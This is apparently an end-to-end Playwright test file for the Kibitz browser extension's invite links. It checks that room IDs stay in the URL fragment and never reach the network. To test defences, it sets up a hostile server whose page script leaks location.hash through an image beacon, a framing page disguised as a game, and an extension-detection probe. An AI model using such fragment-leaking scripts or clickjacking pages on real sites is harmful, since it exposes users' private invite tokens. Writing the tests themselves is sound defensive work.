/**
 * Issue 6, item 2, end to end: a clickable invite. The host's invite is an http:// link on the
 * local broker's own origin with the room in the fragment. Opened in a tab of a second profile
 * that never set a broker, it leads to Kibitz's join screen (room filled in, "Your name",
 * "Join") and into the call, whose tab then becomes the stage. Opened in a browser without
 * Kibitz it says how to get it. Neither sends the room anywhere: every web request is
 * recorded and none carries it. A page that frames the join screen gets nothing to click, and
 * a site that is not an invite origin cannot even tell that Kibitz is installed.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromium, type Browser, type Page } from 'playwright-core';
import { parseLink } from '../../src/engine/link';
import { EXTENSION_ID } from '../../src/invite/extension-identity';
import {
  CHROMIUM_PATH,
  launchProfile,
  must,
  readParticipant,
  scenario,
  seriousA11yViolations,
  setBrokerUrl,
  setName,
  startBrokerProcess,
  startCall,
  teardown,
  type BrokerProcess,
  type Profile,
} from './harness';

const POLL = { timeout: 60_000, interval: 250 };

let broker: BrokerProcess | undefined;
let A: Profile | undefined;
let B: Profile | undefined;
let plain: Browser | undefined;
let hostile: http.Server | undefined;
let popupA: Page;
let invite = '';
let roomId = '';

const step = scenario(it, () => ({ profiles: [A, B], broker }));

/** Every web (http/https) request a page makes, as URL strings. */
function recordWebRequests(page: Page): string[] {
  const seen: string[] = [];
  page.on('request', (req) => {
    if (/^https?:/.test(req.url())) seen.push(req.url());
  });
  return seen;
}

function listen(server: http.Server, host: string): Promise<number> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, host, () => resolve((server.address() as AddressInfo).port));
  });
}

describe.sequential('a clickable invite', () => {
  beforeAll(async () => {
    broker = await startBrokerProcess();
    [A, B] = await Promise.all([launchProfile('host'), launchProfile('guest')]);
  });

  afterAll(async () => {
    await plain?.close().catch(() => undefined);
    hostile?.close();
    await teardown([A, B], broker);
  });

  step('the invite is a web link on the broker origin, with the room in the fragment', async () => {
    expect(must(A, 'host').extensionId).toBe(EXTENSION_ID); // the manifest key fixes the id
    popupA = await must(A, 'host').openPopup();
    await setBrokerUrl(popupA, must(broker, 'broker').url);
    await setName(popupA, 'Ada Host');
    invite = await startCall(popupA);
    expect(invite.startsWith(`${must(broker, 'broker').httpUrl}/join#v=1&r=`), invite).toBe(true);
    const parsed = parseLink(invite);
    if (!parsed.ok) throw new Error(parsed.error);
    roomId = parsed.link.roomId;
    expect(parsed.link.broker).toBe(`${must(broker, 'broker').url}/`);
  });

  step('opened in a second profile that never set a broker, it leads to the join screen and into the call', async () => {
    const brokerConnections = async () => ((await (await fetch(`${must(broker, 'broker').httpUrl}/healthz`)).json()) as { connections: number }).connections;
    const before = await brokerConnections();
    const tab = await must(B, 'guest').context.newPage();
    const requests = recordWebRequests(tab);
    // The invite page hands over to the extension before its own load finishes, so Playwright
    // may report that first navigation as aborted: what counts is where the tab ends up.
    await tab.goto(invite, { waitUntil: 'commit' });
    // Kibitz took the click over before the broker's page loaded: the address came in the
    // query, the room in the fragment the browser carried across the redirect.
    await expect.poll(() => tab.url(), POLL).toMatch(/^chrome-extension:\/\/[a-p]{32}\/join\.html\?via=http:\/\/127\.0\.0\.1:\d+\/join#v=1&r=/);
    const name = tab.getByRole('textbox', { name: 'Your name', exact: true });
    await name.waitFor({ timeout: 30_000 });
    // The join screen says where the call is signalled: the broker the invite names.
    expect(await tab.getByTestId('invite-broker').innerText()).toContain(new URL(must(broker, 'broker').httpUrl).host);
    expect(await seriousA11yViolations(tab)).toEqual([]);
    // The screen warms the join up (its offer, and a socket to the configured broker), but this
    // invite's broker is not that one: nothing reaches it before Join (standby-broker.ts).
    await tab.waitForTimeout(500); // time for a wrong warm-up connection to show up
    expect(await brokerConnections()).toBe(before);
    await name.fill('Bea Guest');
    await tab.getByRole('button', { name: 'Join', exact: true }).click();
    // Connected: this tab becomes the call window.
    await expect.poll(() => tab.url(), POLL).toMatch(/\/stage\.html$/);
    await expect.poll(async () => (await readParticipant(popupA, 'Bea Guest'))?.state, POLL).toBe('connected');
    // The only web request was the invite page itself (and the browser's own favicon try);
    // none carried the room, whose only copy stayed in the fragment.
    expect(requests.length).toBeGreaterThan(0);
    for (const url of requests) {
      expect(url, url).not.toContain(roomId);
      expect(url).not.toContain('#');
      expect(new URL(url).pathname, url).toMatch(/^\/(join|favicon\.ico)$/);
    }
    expect(must(broker, 'broker').output()).not.toContain(roomId);
  });

  step('a hostile broker never gets to run its invite page where Kibitz is installed', async () => {
    // Its /join page would read the room from the fragment and send it home.
    const hits: string[] = [];
    const evil = http.createServer((req, res) => {
      hits.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end('<!doctype html><title>Join</title><script>new Image().src = "/leak?" + encodeURIComponent(location.hash)</script>');
    });
    const port = await listen(evil, '127.0.0.1');
    try {
      const tab = await must(B, 'guest').context.newPage();
      await tab.goto(`http://127.0.0.1:${port}/join#v=1&r=${roomId}&g=open`, { waitUntil: 'commit' }).catch(() => undefined);
      await expect.poll(() => tab.url(), POLL).toMatch(/\/join\.html\?via=/);
      // Bea is in a call already, so the join screen says that (and joins nothing).
      await tab.getByRole('heading', { name: 'You are already in a call' }).waitFor({ timeout: 30_000 });
      await tab.close();
      expect(hits).toEqual([]);
    } finally {
      evil.close();
    }
  });

  step('in a browser without Kibitz the invite page says how to get it, and sends nothing', async () => {
    plain = await chromium.launch({ executablePath: CHROMIUM_PATH, args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking'] });
    const page = await (await plain.newContext()).newPage();
    const requests = recordWebRequests(page);
    await page.goto(invite);
    await expect.poll(() => page.locator('html').getAttribute('data-state'), POLL).toBe('install');
    expect(await page.getByRole('heading', { name: 'Kibitz is not installed in this browser' }).isVisible()).toBe(true);
    expect(await page.getByRole('button', { name: 'Copy link' }).isVisible()).toBe(true);
    for (const scheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme: scheme });
      expect(await seriousA11yViolations(page), scheme).toEqual([]);
    }
    // The fragment is still in the address bar, for after the install.
    expect(page.url()).toBe(invite);
    for (const url of requests) expect(url, url).not.toContain(roomId);
  });

  step('a page that frames the join screen gets nothing to click; another site cannot see Kibitz', async () => {
    const joinUrl = `chrome-extension://${EXTENSION_ID}/join.html#invite=${encodeURIComponent(invite)}`;
    const probeUrl = `chrome-extension://${EXTENSION_ID}/invite-probe.png`;
    hostile = http.createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(`<!doctype html><title>Totally a game</title><iframe id="f" src="${joinUrl}" width="600" height="400"></iframe>`);
    });
    const port = await listen(hostile, '0.0.0.0');
    const tab = await must(B, 'guest').context.newPage();
    // 127.0.0.1 is an invite origin (a local broker), so it may frame the screen: framed, it refuses.
    await tab.goto(`http://127.0.0.1:${port}/`);
    const frame = tab.frameLocator('#f');
    await expect.poll(() => frame.locator('body').innerText().catch(() => ''), POLL).toMatch(/cannot be used inside another page/);
    expect(await frame.getByRole('button', { name: 'Join' }).count()).toBe(0);
    expect(await frame.getByRole('textbox').count()).toBe(0);
    // 127.0.0.2 is no invite origin: the extension's files do not exist for it.
    await tab.goto(`http://127.0.0.2:${port}/`);
    const seen = await tab.evaluate(
      (src) =>
        new Promise<string>((resolve) => {
          const img = new Image();
          img.onload = () => resolve('loaded');
          img.onerror = () => resolve('error');
          img.src = src;
        }),
      probeUrl,
    );
    expect(seen).toBe('error');
    await tab.close();
  });
});
